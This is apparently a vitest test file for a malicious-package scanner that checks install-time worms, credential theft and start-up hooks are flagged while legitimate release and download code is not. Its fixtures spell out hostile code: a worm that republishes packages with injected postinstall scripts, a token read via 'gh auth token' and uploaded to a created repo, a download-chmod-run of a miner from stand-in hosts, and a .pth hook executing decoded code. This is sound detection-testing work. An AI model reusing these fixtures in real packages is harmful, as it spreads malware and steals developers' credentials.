// Issue 24, round s25-pkginstall: IN-SAMPLE for the twenty-fifth held-out set (written from its class descriptions).
import type { AgentFinding, AgentResult } from '@vigil/core';
import { describe, expect, it } from 'vitest';
import { dirWith } from '../../../sandbox/src/test-support/temp-dirs.js';
import { analyzePackage } from './packages/analyze-package.js';

const pkg = async (files: Record<string, string>): Promise<AgentResult> => analyzePackage({ dir: await dirWith(files), track: 'packages', bundleHash: null });
const titles = (r: AgentResult) => r.findings.map((f: AgentFinding) => `${f.severity} ${f.title}`);

describe('a worm split across the modules an install hook reaches', () => {
  const manifest = JSON.stringify({ name: 'grid-kit', version: '1.0.0', scripts: { postinstall: 'node install/run.js' } });
  it('reports publishing and a manifest given an install script from install-time code (CRIT)', async () => {
    const run = "const p = require('./publish');\np.all(process.env.NPM_TOKEN);\n";
    const publish = [
      "const fs = require('fs'); const cp = require('child_process');",
      "exports.all = (t) => { for (const dir of fs.readdirSync('/tmp/w')) {",
      "  const f = dir + '/package.json'; const j = JSON.parse(fs.readFileSync(f, 'utf8'));",
      "  j.scripts['postinstall'] = 'node x.js'; fs.writeFileSync(f, JSON.stringify(j));",
      "  cp.execFileSync('pnpm', ['publish', '--no-git-checks'], { cwd: dir }); } };",
    ].join('\n');
    const r = await pkg({ 'package.json': manifest, 'install/run.js': run, 'install/publish.js': publish });
    expect(titles(r)).toContain('CRIT Code that runs at install publishes packages (self-propagation)');
    expect(titles(r)).toContain('CRIT Code that runs at install adds an install script to another package’s manifest (self-propagation)');
    expect(r.verdict).toBe('BLOCK');
  });
  it('reports credentials read at install and uploaded to a repository created through the GitHub API with a token (CRIT)', async () => {
    const run = "const c = require('./creds'); const u = require('./up');\nconst t = c.read();\nu.save(t.gh, t);\n";
    const creds = "const { execSync } = require('child_process');\nexports.read = () => ({ gh: execSync('gh auth token').toString().trim() });\n";
    const up = "exports.save = async (tok, d) => { await fetch('https://api.github.com/user/repos', { method: 'POST', headers: { authorization: 'token ' + tok }, body: JSON.stringify({ name: 'x', description: JSON.stringify(d) }) }); };\n";
    const r = await pkg({ 'package.json': manifest, 'install/run.js': run, 'install/creds.js': creds, 'install/up.js': up });
    expect(titles(r)).toContain('CRIT Code that runs at install reads credentials and uploads to a repository or gist it creates with a token');
  });
  it('leaves setup.py’s maintainer shortcut `if sys.argv[-1] == "publish": os.system("twine upload dist/*")` alone (found on GuardDog’s ok samples)', async () => {
    const setup = "import os\nimport sys\nfrom setuptools import setup\n\nif sys.argv[-1] == 'publish':\n    os.system('python setup.py sdist bdist_wheel')\n    os.system('twine upload dist/*')\n    sys.exit()\n\nsetup(name='tidy', version='1.0.0', packages=['tidy'])\n";
    const r = await pkg({ 'PKG-INFO': 'Metadata-Version: 2.1\nName: tidy\nVersion: 1.0.0\n', 'setup.py': setup, 'tidy/__init__.py': '' });
    expect(titles(r).filter((t) => t.includes('publishes packages'))).toEqual([]);
    // The same command unguarded runs at every install.
    const bare = await pkg({ 'PKG-INFO': 'Metadata-Version: 2.1\nName: tidy\nVersion: 1.0.0\n', 'setup.py': setup.replace("if sys.argv[-1] == 'publish':\n    ", '').replace(/\n {4}os/g, '\nos').replace('\n    sys.exit()', ''), 'tidy/__init__.py': '' });
    expect(titles(bare)).toContain('CRIT Code that runs at install publishes packages (self-propagation)');
  });
  it('leaves a release CLI the user runs (npm publish, GitHub releases) alone', async () => {
    const bin = "#!/usr/bin/env node\nconst { execSync } = require('child_process');\nconst tok = execSync('gh auth token').toString();\nexecSync('npm publish');\nfetch('https://api.github.com/repos/o/r/releases', { method: 'POST', headers: { authorization: 'token ' + tok } });\n";
    const r = await pkg({ 'package.json': JSON.stringify({ name: 'rel', version: '1.0.0', bin: { rel: 'bin/rel.js' } }), 'bin/rel.js': bin });
    expect(r.findings.filter((f) => f.severity === 'CRIT' || f.severity === 'HIGH')).toEqual([]);
  });
});

describe('download, write, chmod and run joined through helper functions', () => {
  const helpers = "import os, subprocess, urllib.request\n\ndef get(u):\n    return urllib.request.urlopen(u).read()\n\ndef put(p, b):\n    with open(p, 'wb') as f:\n        f.write(b)\n\ndef allow(p):\n    os.chmod(p, 0o755)\n\ndef go(p, a):\n    subprocess.Popen([p] + a)\n";
  const meta = (home: string) => `Metadata-Version: 2.1\nName: numkit\nVersion: 1.0\nHome-page: ${home}\n`;
  it('is CRIT when started on import with mining-pool arguments and a CI skip', async () => {
    const init = "import os, threading\nfrom .h import get, put, allow, go\n\ndef _bg():\n    if os.environ.get('GITHUB_ACTIONS'):\n        return\n    p = '/tmp/.n'\n    b = get('https://' + '.'.join(['x', 'example']) + '/m')\n    put(p, b)\n    allow(p)\n    go(p, ['-o', 'stratum+ssl://pool.example:443', '--donate-level=1'])\n\nthreading.Thread(target=_bg, daemon=True).start()\n";
    const r = await pkg({ 'numkit-1.0.dist-info/METADATA': meta('https://github.com/numkit/numkit'), 'numkit-1.0.dist-info/RECORD': '', 'numkit/__init__.py': init, 'numkit/h.py': helpers });
    expect(titles(r)).toContain('CRIT Downloads a file, writes it, makes it executable and runs it through helper functions');
    expect(r.verdict).toBe('BLOCK');
  });
  it('leaves a wrapper that fetches its tool from the vendor host its metadata names, on request, alone', async () => {
    const init = "from .h import get, put, allow, go\n\ndef main():\n    b = get('https://dl.numkit.dev/tool')\n    put('/tmp/t', b)\n    allow('/tmp/t')\n    go('/tmp/t', [])\n";
    const r = await pkg({ 'numkit-1.0.dist-info/METADATA': meta('https://numkit.dev'), 'numkit-1.0.dist-info/RECORD': '', 'numkit/__init__.py': init, 'numkit/h.py': helpers });
    expect(r.findings.filter((f) => f.severity === 'CRIT' || f.severity === 'HIGH')).toEqual([]);
  });
  it('leaves a postinstall that builds its GitHub-releases URL from a template and runs the binary through helpers alone', async () => {
    const helpers = [
      "const https = require('https'); const fs = require('fs'); const { execFileSync } = require('child_process');",
      "exports.download = (url) => new Promise((res, rej) => https.get(url, (r) => { const c = []; r.on('data', (d) => c.push(d)); r.on('end', () => res(Buffer.concat(c))); }).on('error', rej));",
      "exports.save = (p, b) => fs.writeFileSync(p, b);",
      "exports.makeExecutable = (p) => fs.chmodSync(p, 0o755);",
      "exports.run = (p, args) => execFileSync(p, args, { stdio: 'inherit' });",
    ].join('\n');
    const install = [
      "const path = require('path');",
      "const h = require('./lib/helpers');",
      "const { version } = require('./package.json');",
      "const REPO = 'acme/gridtool';",
      "const assetUrl = (v) => `https://github.com/${REPO}/releases/download/v${v}/gridtool-${process.platform}-${process.arch}`;",
      "async function main() {",
      "  const bin = path.join(__dirname, 'bin', 'gridtool');",
      "  const data = await h.download(assetUrl(version));",
      "  h.save(bin, data);",
      "  h.makeExecutable(bin);",
      "  h.run(bin, ['--version']);",
      "}",
      "main();",
    ].join('\n');
    const manifest = JSON.stringify({ name: 'gridtool', version: '2.1.0', scripts: { postinstall: 'node install.js' } });
    const r = await pkg({ 'package.json': manifest, 'install.js': install, 'lib/helpers.js': helpers });
    expect(titles(r).filter((t) => t.endsWith('through helper functions'))).toEqual([]);
    // The same chain fetching from a host the package does not own is still reported.
    const evil = install.replace('https://github.com/${REPO}/releases/download', 'https://cdn-gridtool.example/${REPO}');
    const bad = await pkg({ 'package.json': manifest, 'install.js': evil, 'lib/helpers.js': helpers });
    expect(titles(bad)).toContain('CRIT Downloads a file, writes it, makes it executable and runs it through helper functions');
  });
  it('judges a generated module of thousands of helper calls and imports, and finds the one chain in it', async () => {
    // Bare calls of names no import binds and method calls on locals were matched against every import's lines, one regular expression per call and import.
    const n = 600;
    const files: Record<string, string> = { 'package.json': JSON.stringify({ name: 'genpkg', version: '1.0.0', main: 'gen/big.js' }) };
    for (let i = 0; i < n; i++) files[`gen/m${i}.js`] = `exports.f${i} = (x) => x + ${i};\n`;
    const h = "const https = require('https'); const fs = require('fs'); const cp = require('child_process');\nexports.get = (u) => new Promise((res) => https.get(u, (r) => res(r)));\nexports.put = (p, b) => fs.writeFileSync(p, b);\nexports.allow = (p) => fs.chmodSync(p, 0o755);\nexports.go = (p) => cp.spawn(p, []);\n";
    files['gen/h.js'] = h;
    const lines = ['const acc = []; const out = new Set(); const fmt = globalThis.format;', ...Array.from({ length: n }, (_, i) => `const m${i} = require('./m${i}');`), "const h = require('./h');"];
    for (let k = 0; k < 3000; k++) lines.push(k % 3 === 0 ? `const v${k} = m${k % n}.f${k % n}(${k});` : k % 3 === 1 ? `acc.push(fmt(${k}));` : `out.add(v${k - 2});`);
    lines.push('async function drop() {', "  const p = '/tmp/.gen';", "  const b = await h.get('https://drop.example/payload');", '  h.put(p, b);', '  h.allow(p);', '  h.go(p);', '}', 'module.exports = { drop };');
    files['gen/big.js'] = lines.join('\n');
    const r = await pkg(files);
    expect(r.findings.filter((f) => f.title === 'Downloads a file, writes it, makes it executable and runs it through helper functions').map((f) => `${f.severity} ${f.file}`)).toEqual(['CRIT gen/big.js']);
  });
});

describe('a .pth or sitecustomize start-up hook written by setup code', () => {
  const sdist = (setup: string) => pkg({ 'PKG-INFO': 'Metadata-Version: 2.1\nName: hookpkg\nVersion: 1.0\n', 'setup.py': setup, 'hookpkg/__init__.py': '' });
  const cmd = (body: string) => `import os, site\nfrom setuptools import setup\nfrom setuptools.command.develop import develop\n\nclass D(develop):\n    def run(self):\n        develop.run(self)\n${body}\n\nsetup(name='hookpkg', cmdclass={'develop': D})\n`;
  it('is CRIT when the import line decodes and runs code', async () => {
    const r = await sdist(cmd("        p = os.path.join(site.getusersitepackages(), 'usercustomize.py')\n        open(p, 'w').write('import zlib, base64\\nexec(zlib.decompress(base64.b64decode(\"eJw=\")))\\n')"));
    expect(titles(r)).toContain('CRIT Writes a .pth or sitecustomize start-up hook whose import line runs at every Python start');
  });
  it('is HIGH when the import line runs a module the package does not ship', async () => {
    const r = await sdist(cmd("        p = os.path.join(site.getsitepackages()[0], 'aaa.pth')\n        open(p, 'w').write('import telemetry_agent; telemetry_agent.start()\\n')"));
    expect(titles(r)).toContain('HIGH Writes a .pth or sitecustomize start-up hook whose import line runs at every Python start');
  });
  it('leaves a .pth of directory lines alone', async () => {
    const r = await sdist(cmd("        p = os.path.join(site.getsitepackages()[0], 'extra.pth')\n        open(p, 'w').write('/opt/hookpkg/lib\\n')"));
    expect(r.findings.filter((f) => f.severity !== 'LOW')).toEqual([]);
  });
  it('leaves virtualenv writing _virtualenv.pth that imports the _virtualenv.py it ships deep in the tree at LOW at most', async () => {
    const api = [
      'import os',
      'from pathlib import Path',
      '',
      'class ViaGlobalRefApi:',
      '    def install_patch(self):',
      '        text = self.env_patch_text()',
      '        if text:',
      '            pth = self.purelib / "_virtualenv.pth"',
      '            pth.write_text("import _virtualenv", encoding="utf-8")',
      '            dest_path = self.purelib / "_virtualenv.py"',
      '            dest_path.write_text(text, encoding="utf-8")',
      '',
      '    def env_patch_text(self):',
      '        with self.app_data.ensure_extracted(Path(__file__).parent / "_virtualenv.py") as resolved_path:',
      '            return resolved_path.read_text(encoding="utf-8")',
      '',
    ].join('\n');
    const shim = 'import sys\n\nVIRTUALENV_PATCH_FILE = __file__\n\ndef patch_dist(dist):\n    old_parse_config_files = dist.Distribution.parse_config_files\n';
    const r = await pkg({
      'PKG-INFO': 'Metadata-Version: 2.1\nName: virtualenv\nVersion: 20.26.0\n',
      'src/virtualenv/__init__.py': 'from .create.via_global_ref.api import ViaGlobalRefApi\n',
      'src/virtualenv/create/__init__.py': '',
      'src/virtualenv/create/via_global_ref/__init__.py': '',
      'src/virtualenv/create/via_global_ref/api.py': api,
      'src/virtualenv/create/via_global_ref/_virtualenv.py': shim,
    });
    expect(r.findings.filter((f) => f.title.startsWith('Writes a .pth') && f.severity !== 'LOW')).toEqual([]);
    // The shim in a folder no reached module imports from: every shipped .py file's base name counts as own.
    const far = await pkg({
      'PKG-INFO': 'Metadata-Version: 2.1\nName: virtualenv\nVersion: 20.26.0\n',
      'src/virtualenv/__init__.py': 'from .create.via_global_ref.api import ViaGlobalRefApi\n',
      'src/virtualenv/create/__init__.py': '',
      'src/virtualenv/create/via_global_ref/__init__.py': '',
      'src/virtualenv/create/via_global_ref/api.py': api,
      'src/virtualenv/data/shims/_virtualenv.py': shim,
    });
    expect(far.findings.filter((f) => f.title.startsWith('Writes a .pth') && f.severity !== 'LOW')).toEqual([]);
    expect(far.findings.some((f) => f.title.startsWith('Writes a .pth'))).toBe(true);
  });
});

describe('a publish guarded by the command line (review)', () => {
  const setupWith = (guard: string) => `import os\nimport sys\nfrom setuptools import setup\n\n${guard}\n    os.system('twine upload dist/*')\n\nsetup(name='tidy', version='1.0.0')\n`;
  const meta = 'Metadata-Version: 2.1\nName: tidy\nVersion: 1.0.0\n';
  it('still reports a publish behind a test that is not a release word', async () => {
    for (const guard of ['if sys.argv:', 'if len(sys.argv) > 0:', "if sys.argv[-1] != 'publish':", "if 'install' in sys.argv:", "if sys.argv[-1] == 'publish' or True:"]) {
      const r = await pkg({ 'PKG-INFO': meta, 'setup.py': setupWith(guard), 'tidy/__init__.py': '' });
      expect(titles(r), guard).toContain('CRIT Code that runs at install publishes packages (self-propagation)');
    }
  });
  it('still reports an install script’s npm publish behind process.argv (npm passes the script any flag)', async () => {
    const js = "const { execSync } = require('child_process');\nif (process.argv.includes('--publish')) {\n  execSync('npm publish');\n}\n";
    const r = await pkg({ 'package.json': JSON.stringify({ name: 'w', version: '1.0.0', scripts: { postinstall: 'node install.js --publish' } }), 'install.js': js });
    expect(titles(r)).toContain('CRIT Code that runs at install publishes packages (self-propagation)');
  });
  it('leaves `"upload" in sys.argv` guarding twine alone', async () => {
    const r = await pkg({ 'PKG-INFO': meta, 'setup.py': setupWith("if 'upload' in sys.argv:"), 'tidy/__init__.py': '' });
    expect(titles(r).filter((t) => t.includes('publishes packages'))).toEqual([]);
  });
});
